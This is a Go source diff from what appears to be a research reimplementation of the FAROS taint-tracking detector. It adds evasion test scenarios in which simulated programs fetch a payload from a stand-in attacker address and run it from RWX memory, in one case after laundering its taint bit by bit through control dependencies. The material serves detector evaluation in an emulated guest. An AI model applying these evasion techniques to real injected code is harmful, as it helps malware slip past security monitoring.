@@ -1,0 +1,135 @@
+package samples
+
+import (
+	"fmt"
+
+	"faros/internal/guest"
+	"faros/internal/isa"
+	"faros/internal/peimg"
+)
+
+// Evasion scenarios for the §VI.D discussion: techniques an attacker aware
+// of FAROS' policy could try, and what the baseline and extended policies
+// do about them.
+
+// hardcodedStubPayload builds a payload that never reads the export table:
+// it calls the kernel API stubs at their fixed, well-known addresses.
+// Under the default confluence policy there is no tagged read to flag; the
+// StrictExecCheck extension flags the execution of netflow-tainted code
+// itself.
+func hardcodedStubPayload(message string) []byte {
+	pb := isa.NewBlock()
+	mb, ok := guest.StubAddrOf("MessageBoxA")
+	if !ok {
+		panic("samples: MessageBoxA stub missing")
+	}
+	exit, _ := guest.StubAddrOf("ExitProcess")
+	sleep, _ := guest.StubAddrOf("Sleep")
+	pb.LeaSelf(isa.EBX, "msg")
+	pb.Movi(isa.EDI, mb)
+	pb.CallReg(isa.EDI)
+	_ = exit
+	pb.Label("tail")
+	pb.Movi(isa.EBX, 5000)
+	pb.Movi(isa.EDI, sleep)
+	pb.CallReg(isa.EDI)
+	pb.Jmp("tail")
+	pb.Label("msg").DataString(message)
+	code, err := pb.Assemble(0)
+	if err != nil {
+		panic(fmt.Sprintf("samples: hardcoded stub payload: %v", err))
+	}
+	return code
+}
+
+// EvasionHardcodedStubs is a self-injection that avoids the export table
+// entirely by calling hardcoded stub addresses.
+func EvasionHardcodedStubs() Spec {
+	payload := hardcodedStubPayload("stub-evasion payload ran")
+	return Spec{
+		Name: "evasion_hardcoded_stubs",
+		Programs: []Program{
+			selfInjector("stub_evader.exe", uint32(len(payload))),
+		},
+		AutoStart:  []string{"stub_evader.exe"},
+		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 400, payload: payload}}},
+		MaxInstr:   4_000_000,
+		ExpectFlag: false, // default policy misses it; StrictExecCheck catches it
+	}
+}
+
+// bitLaunderingInjector receives a payload and copies it into an RWX
+// allocation one *bit* at a time through control dependencies (the paper's
+// Figure 2 evasion, acknowledged in §VI.D): the copied bytes are
+// value-identical but taint-free, so no policy that relies on propagated
+// tags can flag the execution. The scenario documents FAROS' admitted
+// limitation.
+func bitLaunderingInjector(name string, payloadLen uint32) Program {
+	b := peimg.NewBuilder(name)
+	buf := b.BSS(4096)
+
+	emitConnect(b, AttackerAddr)
+	emitRecv(b, buf, payloadLen)
+
+	b.Text.Movi(isa.EBX, 0)
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Movi(isa.EDX, payloadLen)
+	b.Text.Movi(isa.ESI, 7)
+	b.CallImport("VirtualAlloc")
+	b.Text.Mov(isa.EBP, isa.EAX)
+
+	// Outer loop over bytes; the byte index lives on the stack.
+	b.Text.Movi(isa.EAX, 0)
+	b.Text.Push(isa.EAX)
+	b.Text.Label("outer")
+	b.Text.Ld(isa.EDI, isa.ESP, 0)
+	b.Text.Cmpi(isa.EDI, payloadLen)
+	b.Text.Jge("launder_done")
+	b.Text.Movi(isa.ESI, buf)
+	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.EDI) // tainted input byte
+	b.Text.Movi(isa.EDX, 0)                  // untainted output byte
+	b.Text.Movi(isa.ECX, 1)                  // bit mask
+	b.Text.Label("bits")
+	b.Text.Cmpi(isa.ECX, 256)
+	b.Text.Jge("bits_done")
+	b.Text.Mov(isa.ESI, isa.EAX)
+	b.Text.And(isa.ESI, isa.ECX)
+	b.Text.Cmpi(isa.ESI, 0)
+	b.Text.Jz("bit_clear")
+	b.Text.Or(isa.EDX, isa.ECX) // information flows via the branch only
+	b.Text.Label("bit_clear")
+	b.Text.Shli(isa.ECX, 1)
+	b.Text.Jmp("bits")
+	b.Text.Label("bits_done")
+	b.Text.Ld(isa.EDI, isa.ESP, 0)
+	b.Text.StbIdx(isa.EBP, isa.EDI, isa.EDX) // laundered byte
+	b.Text.Addi(isa.EDI, 1)
+	b.Text.St(isa.ESP, 0, isa.EDI)
+	b.Text.Jmp("outer")
+	b.Text.Label("launder_done")
+	b.Text.Pop(isa.EAX)
+	b.Text.CallReg(isa.EBP)
+	emitExit(b, 0)
+	return build(b, name)
+}
+
+// EvasionBitLaundering delivers a normal export-walking payload but copies
+// it through the control-dependency laundry before execution.
+func EvasionBitLaundering() Spec {
+	payload := BuildPayload(PayloadSpec{Message: "laundered payload ran"})
+	return Spec{
+		Name: "evasion_bit_laundering",
+		Programs: []Program{
+			bitLaunderingInjector("launderer.exe", uint32(len(payload))),
+		},
+		AutoStart:  []string{"launderer.exe"},
+		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 400, payload: payload}}},
+		MaxInstr:   8_000_000,
+		ExpectFlag: false, // acknowledged blind spot (§VI.D)
+	}
+}
+
+// EvasionScenarios returns the §VI.D evasion studies.
+func EvasionScenarios() []Spec {
+	return []Spec{EvasionHardcodedStubs(), EvasionBitLaundering()}
+}
